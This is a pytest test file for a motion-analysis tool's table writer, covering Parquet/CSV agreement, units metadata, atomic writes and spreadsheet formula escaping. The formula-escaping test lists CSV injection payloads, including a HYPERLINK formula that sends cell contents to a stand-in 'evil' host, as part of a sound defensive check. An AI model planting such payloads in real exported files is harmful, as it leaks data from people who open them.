"""The two files of a table hold the same numbers, say their units, and are never half-written."""

import csv
from pathlib import Path

import numpy as np
import pyarrow.parquet as pq
import pytest

from stridelab.service.kinds import result_tables

TIME_S = np.arange(5) / 100.0
X_M = np.array([0.1, np.nan, 1 / 3, -2e-17, 5.0])
COMPLETE = np.array([True, False, True, True, False])


def written(folder: Path) -> None:
    columns = {"time_s": TIME_S, "x_m": X_M, "vx_m_s": X_M * 2, "complete": COMPLETE}
    result_tables.write_table(folder, "com", columns, {"file": "trial.c3d"})


def test_parquet_keeps_every_bit_and_nan(tmp_path: Path) -> None:
    written(tmp_path)
    table = pq.read_table(tmp_path / "com.parquet")
    np.testing.assert_array_equal(table["x_m"].to_numpy(), X_M)
    np.testing.assert_array_equal(table["complete"].to_numpy(), COMPLETE)
    assert table["x_m"].null_count == 0
    assert pq.ParquetFile(tmp_path / "com.parquet").metadata.row_group(0).column(0).compression == "ZSTD"


def test_csv_twin_has_the_same_columns_and_numbers_and_empty_cells_for_nan(tmp_path: Path) -> None:
    written(tmp_path)
    with (tmp_path / "com.csv").open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert list(rows[0]) == ["time_s", "x_m", "vx_m_s", "complete"]
    assert [row["x_m"] for row in rows][1] == ""
    assert [float(row["x_m"] or "nan") for row in rows] == pytest.approx(X_M.tolist(), rel=0, abs=0, nan_ok=True)
    assert [row["complete"] for row in rows] == ["true", "false", "true", "true", "false"]


def test_metadata_say_units_versions_and_provenance(tmp_path: Path) -> None:
    written(tmp_path)
    about = result_tables.read_metadata(tmp_path / "com.parquet")
    assert about["units"] == {"time_s": "s", "x_m": "m", "vx_m_s": "m/s", "complete": "1"}
    assert {"stridelab", "numpy", "scipy", "ezc3d", "pin"} <= set(about["versions"])
    assert about["provenance"] == {"file": "trial.c3d"}


@pytest.mark.parametrize(
    ("column", "unit"),
    [
        ("ax_m_s2", "m/s^2"),
        ("l_x_nms", "N m s"),
        ("plate1_mx_nm", "N m"),
        ("omega_rad_s", "rad/s"),
        ("theta_rad", "rad"),
        ("force_x_n", "N"),
        ("L_IAS_x_m", "m"),
        ("mass_kg", "kg"),
        ("phase", "1"),
    ],
)
def test_a_column_name_states_its_unit(column: str, unit: str) -> None:
    assert result_tables.unit_of(column) == unit


def test_columns_of_different_length_are_refused_and_leave_nothing(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="length"):
        result_tables.write_table(tmp_path, "com", {"time_s": TIME_S, "x_m": X_M[:3]}, {})
    assert list(tmp_path.iterdir()) == []


def test_a_failing_writer_leaves_the_earlier_file_and_no_part(tmp_path: Path) -> None:
    target = tmp_path / "com.csv"
    target.write_text("before")

    def half(path: Path) -> None:
        path.write_text("half a ta")
        raise OSError("disk full")

    with pytest.raises(OSError, match="disk full"):
        result_tables.write_atomically(target, half)
    assert [path.name for path in tmp_path.iterdir()] == ["com.csv"]
    assert target.read_text() == "before"


FORMULAS = ['=HYPERLINK("http://evil?"&A2,"x")', "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "  =1", "\uff1d1"]
HARMLESS = ["Jane Doe", "-1.5", "+2e3", "a=b", "", "P-07", " ", "'quoted"]


def test_a_spreadsheet_runs_no_text_of_a_table(tmp_path: Path) -> None:
    texts = np.array([*FORMULAS, *HARMLESS], dtype=object)
    result_tables.write_table(tmp_path, "subjects", {"subject": texts, "=1+1": np.arange(len(texts)) - 5.0}, {})
    with (tmp_path / "subjects.csv").open(encoding="utf-8", newline="") as file:
        header, *lines = list(csv.reader(file))
    assert header == ["subject", "'=1+1"]
    assert [line[0] for line in lines] == [f"'{text}" for text in FORMULAS] + HARMLESS
    assert [float(line[1]) for line in lines] == (np.arange(len(texts)) - 5.0).tolist(), "numbers are no text"
    assert pq.read_table(tmp_path / "subjects.parquet")["subject"].to_pylist() == texts.tolist()
